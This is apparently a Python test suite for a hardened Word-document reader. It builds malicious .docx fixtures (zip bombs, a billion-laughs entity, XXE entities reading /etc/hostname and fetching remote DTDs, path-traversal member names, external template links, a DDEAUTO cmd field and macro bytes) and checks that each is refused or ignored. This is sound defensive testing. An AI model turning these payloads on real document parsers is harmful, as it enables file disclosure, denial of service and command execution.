"""Word files that lie: bombs, entities, paths, links and macros; each ends in one line or is read without being obeyed."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from documents import package, paragraph, word_parts, write
from guarded import Reading, read_guarded

SECONDS, MIB = 30, 600
MIBS = 1 << 20
_LAUGHS = '<!DOCTYPE w [<!ENTITY a "哈">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)
) + "]>"  # fmt: skip


def read(tmp_path: Path, raw: bytes) -> Reading:
    before = set(tmp_path.parent.rglob("*")) | set(Path.cwd().iterdir())
    path = write(tmp_path, "a.docx", raw)
    reading = read_guarded(path)
    assert reading.seconds < SECONDS
    assert reading.mib < MIB
    assert not reading.deeds
    assert not reading.printed
    assert set(tmp_path.parent.rglob("*")) | set(Path.cwd().iterdir()) == before | {path}
    return reading


def document(body: str = paragraph("1.推进医改。"), **others: str | bytes) -> bytes:
    return package(word_parts(body) | {name.replace("__", "/"): content for name, content in others.items()})


def replaced(name: str, content: str | bytes) -> bytes:
    return package(word_parts(paragraph("1.推进医改。")) | {name: content})


def _xml(front: str, inside: str) -> str:
    body = str(word_parts(paragraph(f"1.推进医改。{inside}"))["word/document.xml"])
    return front + body


def overlapping(n: int = 60, size: int = 8 * MIBS) -> bytes:
    """Directory entries that all point at the same packed bytes, as the densest zip bombs do."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in word_parts(paragraph("1.推进医改。")).items():
            archive.writestr(name, content)
        archive.writestr("word/media/0", bytes(size))
        first = archive.getinfo("word/media/0")
        for at in range(1, n):
            copy = zipfile.ZipInfo(f"word/media/{at}")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type", "flag_bits"):
                setattr(copy, field, getattr(first, field))
            archive.filelist.append(copy)
    return out.getvalue()


def nested(depth: int = 5) -> bytes:
    """A zip in a zip in a zip …, the outermost a Word file."""
    raw = package({"bomb": bytes(MIBS)})
    for _ in range(depth):
        raw = package({f"{at}.zip": raw for at in range(10)})
    return document(**{"word__embeddings__0.zip": raw})


def packed_otherwise(method: int) -> bytes:
    return package(word_parts(paragraph("1.推进医改。")), method)


def tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph("1.推进医改。") + "</w:tc></w:tr></w:tbl>" * depth


def lying(size: int) -> bytes:
    """A directory that tells a small size of a part that unpacks to more."""
    raw = bytearray(document(paragraph("1.推进医改。") + " " * 4_000_000))
    at = raw.rfind(b"PK\x01\x02", 0, raw.rfind(b"word/document.xml"))
    raw[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(raw)


BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "one part that unpacks a thousand times": (
        lambda: document(" " * (20 * MIBS)), "a zip bomb: word/document.xml unpacks more than 200 : 1",
    ),
    "more XML than memory should hold": (
        lambda: package(word_parts("<w:p/>" * (6 * MIBS)), zipfile.ZIP_STORED),
        "word/document.xml is larger than the 32 MiB read: split the file",
    ),
    "parts that overlap": (overlapping, "unpacks to 480 MiB, more than the 256 MiB read"),
    "a size that is not true": (lambda: lying(1_000), "damaged: word/document.xml cannot be unpacked"),
    "packed by bzip2, whose bombs are denser": (lambda: packed_otherwise(zipfile.ZIP_BZIP2), "packed in a way that Word does not know"),
    "packed by lzma": (lambda: packed_otherwise(zipfile.ZIP_LZMA), "packed in a way that Word does not know"),
    "entities that laugh": (
        lambda: replaced("word/document.xml", _xml(_LAUGHS, "&j;")), "refused: word/document.xml declares a document type|is not valid XML",
    ),
    "an entity that is a file": (
        lambda: replaced("word/document.xml", _xml('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/hostname">]>', "&a;")),
        "refused: word/document.xml declares a document type",
    ),
    "a document type from the network": (
        lambda: replaced("word/document.xml", _xml('<!DOCTYPE w SYSTEM "http://127.0.0.1:9/a.dtd">', "")),
        "refused: word/document.xml declares a document type",
    ),
    "a parameter entity": (
        lambda: replaced("word/styles.xml", _xml('<!DOCTYPE w [<!ENTITY % a SYSTEM "http://127.0.0.1:9/a"> %a;]>', "")),
        "refused: word/styles.xml declares a document type",
    ),
    "tables a hundred thousand deep": (lambda: document(tables(100_000)), "is not valid XML .*[Dd]epth"),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_a_word_file_that_explodes_is_refused_within_seconds_and_bounded_memory(tmp_path: Path, name: str) -> None:
    make, message = BOMBS[name]
    assert re.search(message, read(tmp_path, make()).said)


_LINKS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="x/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/>'
    '<Relationship Id="rId2" Type="x/aFChunk" Target="file:///etc/hostname" TargetMode="External"/>'
    '<Relationship Id="rId3" Type="x/aFChunk" Target="../../../../etc/hostname"/>'
    '<Relationship Id="rId4" Type="x/oleObject" Target="http://127.0.0.1:9/x"/></Relationships>'
)
_XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/hostname" parse="text"/>'
HARMLESS: dict[str, Callable[[], bytes]] = {
    "zips in zips": nested,
    "names that climb out of the package": lambda: document(
        **{"..__..__..__etc__passwd": "x", "__etc__cron.d__x": "x", "C:\\Windows\\x.dll": "x", "word__..__..__x": "x"}
    ),
    "links out of the package": lambda: package(
        word_parts(paragraph("1.推进医改。") + "".join(f'<w:altChunk r:id="rId{at}"/>' for at in range(1, 5)))
        | {"word/_rels/document.xml.rels": _LINKS}
    ),
    "macros": lambda: document(**{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"AutoOpen Shell" * 99}),
    "fields that run commands": lambda: document(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r></w:p>'
        + paragraph("1.推进医改。")
    ),
    "an inclusion": lambda: document(_XINCLUDE + paragraph("1.推进医改。")),
    "tables twenty deep": lambda: document(tables(20)),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_a_word_file_with_a_trap_is_read_and_the_trap_left_alone(tmp_path: Path, name: str) -> None:
    reading = read(tmp_path, HARMLESS[name]())
    assert reading.said == ""
    assert reading.items == ["推进医改。"]
